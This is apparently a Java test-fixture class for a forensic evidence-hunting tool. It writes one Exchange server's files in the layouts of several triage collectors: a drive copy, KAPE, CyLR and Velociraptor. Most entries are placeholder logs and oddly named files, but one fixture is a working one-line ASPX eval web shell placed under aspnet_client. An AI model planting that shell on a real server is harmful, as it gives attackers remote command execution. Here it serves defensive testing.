package org.exhunt.evidence;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.TreeMap;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.exhunt.testkit.zip.CraftedZip;

/**
 * One server's files (on C: and D:, with awkward names), written the ways responders receive them: a copy of
 * the drive, a KAPE target folder, CyLR's zip, a Velociraptor collection. The layouts are written here by hand
 * from the collectors' documented formats, independently of the code that reads them.
 */
public final class TriageLayouts {

    static final Instant TIME = Instant.parse("2021-03-03T04:05:06Z");

    /** Drive-qualified path ({@code C:/...}) to content. */
    static final Map<String, byte[]> FILES = files();

    private TriageLayouts() {}

    private static Map<String, byte[]> files() {
        Map<String, byte[]> f = new LinkedHashMap<>();
        f.put("C:/inetpub/wwwroot/aspnet_client/system_web/errorEE.aspx",
                utf8("<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"t\"],\"unsafe\");%>"));
        f.put("C:/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/logon.aspx", utf8("logon"));
        f.put("C:/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log", utf8("#Fields: date time cs-uri-stem\n"));
        f.put("C:/Windows/System32/winevt/Logs/MSExchange Management.evtx", new byte[] {'E', 'l', 'f', 'F', 0, 1, (byte) 0xff});
        f.put("C:/Users/Ådmin/Desktop/über shell #1 %41.aspx", utf8("spaces, non-ASCII, '#' and a literal %41"));
        f.put("C:/inetpub/wwwroot/aspnet_client/日本語.ashx", utf8("CJK"));
        f.put("C:/inetpub/wwwroot/aspnet_client/what?a<b>c|d\"e*.aspx", utf8("Windows-reserved characters"));
        f.put("C:/inetpub/wwwroot/aspnet_client/con.aspx", utf8("a Windows-reserved device name"));
        f.put("C:/inetpub/wwwroot/aspnet_client/.hidden", utf8("leading dot"));
        f.put("C:/inetpub/wwwroot/aspnet_client/ends with dot.", utf8("trailing dot"));
        f.put("D:/Exchange/V15/Logging/HttpProxy/Owa/HttpProxy_2021030304-1.LOG", utf8("DateTime,RequestId"));
        return f;
    }

    /** The files of one drive, by drive path. */
    static Map<String, byte[]> drive(char letter) {
        Map<String, byte[]> out = new TreeMap<>();
        FILES.forEach((k, v) -> {
            if (k.charAt(0) == letter) out.put(k.substring(3), v);
        });
        return out;
    }

    static Map<String, String> expectedHashes(boolean withD) {
        Map<String, String> out = new TreeMap<>();
        FILES.forEach((k, v) -> {
            if (withD || k.startsWith("C:")) out.put(k, Walk.sha256(v));
        });
        return out;
    }

    /** {@code C:\} copied as it is. */
    public static Path driveCopy(Path dir) throws IOException {
        for (var e : drive('C').entrySet()) write(dir.resolve(e.getKey()), e.getValue());
        return dir;
    }

    /** KAPE target output: {@code <tdest>/C/...}, {@code <tdest>/D/...} and KAPE's own logs beside them. */
    public static Path kapeFolder(Path dir) throws IOException {
        Path tout = dir.resolve("tout");
        for (var e : FILES.entrySet()) write(tout.resolve(e.getKey().charAt(0) + "/" + e.getKey().substring(3)), e.getValue());
        write(tout.resolve("2021-03-03T040506_CopyLog.csv"), utf8("CopiedTimestamp,SourceFile\n"));
        write(tout.resolve("2021-03-03T040506_ConsoleLog.txt"), utf8("KAPE version 1.3\n"));
        return dir;
    }

    /** KAPE's output zipped ({@code --zip}): {@code C/...} at the top of the archive. */
    public static Path kapeZip(Path zip) throws IOException {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        FILES.forEach((k, v) -> entries.put(k.charAt(0) + "/" + k.substring(3), v));
        entries.put("2021-03-03T040506_CopyLog.csv", utf8("CopiedTimestamp,SourceFile\n"));
        return jdkZip(zip, entries);
    }

    /** A copy of {@code C:\} zipped as it is. */
    public static Path driveCopyZip(Path zip) throws IOException {
        return jdkZip(zip, drive('C'));
    }

    /**
     * CyLR's zip: the Windows path without its colon, so {@code C\inetpub\...} with backslashes, written by .NET
     * with a DOS time only.
     */
    public static Path cylrZip(Path zip) throws IOException {
        CraftedZip z = new CraftedZip();
        FILES.forEach((k, v) -> z.add(k.charAt(0) + "\\" + k.substring(3).replace('/', '\\'), v));
        Files.write(zip, z.bytes());
        return zip;
    }

    /** A Velociraptor offline collection as a zip: {@code uploads/auto/C%3A/...}, {@code uploads/ntfs/%5C%5C.%5CD%3A/...}. */
    public static Path velociraptorZip(Path zip) throws IOException {
        return jdkZip(zip, velociraptorEntries(""));
    }

    /** The same collection extracted into a folder named after it. */
    public static Path velociraptorFolder(Path dir) throws IOException {
        for (var e : velociraptorEntries("Collection-EX01-2021-03-03T04_05_06Z/").entrySet()) {
            write(dir.resolve(e.getKey()), e.getValue());
        }
        return dir;
    }

    private static Map<String, byte[]> velociraptorEntries(String top) {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        FILES.forEach((k, v) -> {
            String volume = k.charAt(0) == 'C' ? "uploads/auto/C%3A" : "uploads/ntfs/%5C%5C.%5CD%3A";
            StringBuilder path = new StringBuilder(top).append(volume);
            for (String segment : k.substring(3).split("/")) path.append('/').append(velociraptorEncode(segment));
            entries.put(path.toString(), v);
        });
        entries.put(top + "uploads.json", utf8("{}"));
        entries.put(top + "log.json", utf8("{}"));
        entries.put(top + "collection_context.json", utf8("{}"));
        entries.put(top + "results/Windows.KapeFiles.Targets%2FAll File Metadata.json", utf8("{}"));
        return entries;
    }

    /**
     * Velociraptor's escaping of a name in a zip, as its documentation and tests describe it: the characters
     * Windows cannot hold ({@code ?"*:|<>%/\}) and control characters as %XX, and a dot or space at either end.
     */
    static String velociraptorEncode(String segment) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < segment.length(); i++) {
            char c = segment.charAt(i);
            boolean edge = (i == 0 || i == segment.length() - 1) && (c == '.' || c == ' ');
            if (edge || c < 0x20 || "?\"*:|<>%/\\".indexOf(c) >= 0) out.append(String.format("%%%02X", (int) c));
            else out.append(c);
        }
        return out.toString();
    }

    static Path jdkZip(Path zip, Map<String, byte[]> entries) throws IOException {
        try (OutputStream file = Files.newOutputStream(zip); ZipOutputStream out = new ZipOutputStream(file)) {
            for (var e : entries.entrySet()) {
                ZipEntry entry = new ZipEntry(e.getKey());
                entry.setLastModifiedTime(FileTime.from(TIME));
                out.putNextEntry(entry);
                out.write(e.getValue());
                out.closeEntry();
            }
        }
        return zip;
    }

    static void write(Path file, byte[] content) throws IOException {
        Files.createDirectories(file.getParent());
        Files.write(file, content);
        Files.setLastModifiedTime(file, FileTime.from(TIME));
    }

    static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }
}
